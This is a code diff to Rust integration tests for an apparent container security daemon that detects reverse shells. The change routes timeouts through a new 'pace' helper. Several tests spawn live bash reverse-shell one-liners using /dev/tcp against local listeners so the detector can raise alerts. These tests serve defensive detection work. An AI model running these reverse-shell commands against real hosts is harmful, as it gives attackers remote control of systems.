@@ -4,6 +4,7 @@
 use crate::container::{Container, Group, wait};
 use crate::daemon::{ALERT_WAIT, Daemon, Settings, is_alert, outcome};
 use crate::lab::Peer;
+use crate::pace;
 use anyhow::{Context, Result, anyhow, ensure};
 use std::collections::HashSet;
 use std::net::TcpListener;
@@ -20,14 +21,14 @@ const BATCH: usize = 4;
 pub fn short_lived_container_is_identified() -> Result<()> {
     let group = Group::make()?;
     let daemon = Daemon::start(&group, &Settings::mode("monitor"))?;
-    let peer = Peer::shell(TcpListener::bind("127.0.0.1:0")?, "exit\n", Duration::from_millis(40))?;
+    let peer = Peer::shell(TcpListener::bind("127.0.0.1:0")?, "exit\n", pace::wait(Duration::from_millis(40)))?;
     let mut ids = Vec::new();
     for _ in 0..5 {
         let cgroup = group.cgroup()?;
         let made = Instant::now();
         let attack = format!("bash -i >& /dev/tcp/127.0.0.1/{} 0>&1", peer.port);
         let mut child = cgroup.command(&["bash", "-c", &attack]).stdin(Stdio::null()).stderr(Stdio::null()).spawn()?;
-        std::thread::sleep(SHORT.saturating_sub(made.elapsed()));
+        std::thread::sleep(pace::wait(SHORT).saturating_sub(made.elapsed()));
         let _ = child.kill();
         let _ = child.wait();
         ids.push(cgroup.id.clone());
@@ -47,13 +48,13 @@ pub fn churn_2000_containers_rss_flat() -> Result<()> {
     let mut ids = HashSet::new();
     let mut resident = Vec::new();
     for _ in 0..2 {
-        ids.extend(churn(&group, CHURN / 2)?);
-        std::thread::sleep(Duration::from_secs(2));
+        ids.extend(churn(&group, pace::times(CHURN) / 2)?);
+        std::thread::sleep(pace::wait(Duration::from_secs(2)));
         resident.push(daemon.rss_bytes()?);
     }
     let status = daemon.status()?;
     eprintln!("churn: resident {resident:?} bytes after each half; {}", counters(&status));
-    let deadline = Instant::now() + ALERT_WAIT;
+    let deadline = Instant::now() + pace::wait(ALERT_WAIT);
     let missed = loop {
         let rows = daemon.rows();
         let found: HashSet<&str> = rows
@@ -85,7 +86,7 @@ fn churn(group: &Group, count: usize) -> Result<Vec<String>> {
         let cgroup = group.cgroup()?;
         let mut command = cgroup.command(&["bash", "-c", ": <>/dev/tcp/127.0.0.1/10250"]);
         let child = command.stdin(Stdio::null()).stderr(Stdio::null()).spawn()?;
-        wait(child, Duration::from_secs(10))?;
+        wait(child, pace::wait(Duration::from_secs(10)))?;
         Ok(cgroup.id.clone())
     };
     std::thread::scope(|scope| {
@@ -103,9 +104,9 @@ fn churn(group: &Group, count: usize) -> Result<Vec<String>> {
 pub fn running_before_daemon_is_found() -> Result<()> {
     let group = Group::make()?;
     let container = Container::start(&group)?;
-    let peer = Peer::shell(container.listen()?, "echo up > /tmp/effect\n", Duration::from_secs(60))?;
+    let peer = Peer::shell(container.listen()?, "echo up > /tmp/effect\n", pace::wait(Duration::from_secs(60)))?;
     let mut shell = container.spawn(&format!("bash -c 'bash -i >& /dev/tcp/127.0.0.1/{} 0>&1'", peer.port))?;
-    let deadline = Instant::now() + Duration::from_secs(10);
+    let deadline = Instant::now() + pace::wait(Duration::from_secs(10));
     while !container.path("/tmp/effect").exists() && Instant::now() < deadline {
         std::thread::sleep(Duration::from_millis(20));
     }
@@ -124,7 +125,7 @@ pub fn running_before_daemon_is_found() -> Result<()> {
 pub fn host_is_alert_only() -> Result<()> {
     let group = Group::make()?;
     let daemon = Daemon::start(&group, &Settings { host: true, ..Settings::mode("protect") })?;
-    let peer = Peer::shell(TcpListener::bind("127.0.0.1:0")?, "", Duration::from_secs(30))?;
+    let peer = Peer::shell(TcpListener::bind("127.0.0.1:0")?, "", pace::wait(Duration::from_secs(30)))?;
     let attack = format!("exec bash -i >& /dev/tcp/127.0.0.1/{} 0>&1", peer.port);
     let mut shell = Command::new("bash")
         .args(["-c", &attack])
@@ -135,7 +136,7 @@ pub fn host_is_alert_only() -> Result<()> {
     let found = daemon.await_row("reverse_shell alert of the host", ALERT_WAIT, |row| {
         is_alert(row, "reverse_shell", "host") && row["process"]["pid"] == shell.id()
     });
-    std::thread::sleep(Duration::from_millis(200));
+    std::thread::sleep(pace::wait(Duration::from_millis(200)));
     let alive = shell.try_wait().map(|status| status.is_none());
     let _ = shell.kill();
     let _ = shell.wait();
